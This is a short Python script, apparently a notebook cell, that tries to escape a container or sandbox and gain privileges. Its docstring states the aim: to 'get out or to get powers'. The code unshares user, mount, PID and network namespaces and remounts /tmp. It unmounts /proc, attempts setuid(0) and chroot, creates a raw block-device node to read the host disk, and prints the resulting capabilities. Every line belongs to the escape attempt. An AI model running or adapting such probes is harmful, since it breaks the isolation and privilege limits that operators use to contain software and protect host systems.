# ruff: noqa
"""Makes new namespaces, mounts and devices to get out or to get powers."""

# %%
import ctypes
import os
import stat

libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x20000, 0x20000000, 0x40000000):
    print(libc.unshare(flags), os.strerror(ctypes.get_errno()))
print(libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None), ctypes.get_errno())
print(libc.umount2(b"/proc", 2), libc.umount2(b"/tmp", 2), ctypes.get_errno())
print(libc.setuid(0), libc.setgid(0), libc.chroot(b"/tmp"), ctypes.get_errno())
try:
    os.mknod("/tmp/disk", stat.S_IFBLK | 0o666, os.makedev(254, 0))
    print("opened", open("/tmp/disk", "rb").read(10))
except OSError as error:
    print(error)
print([line for line in open("/proc/self/status") if line.startswith("Cap")])
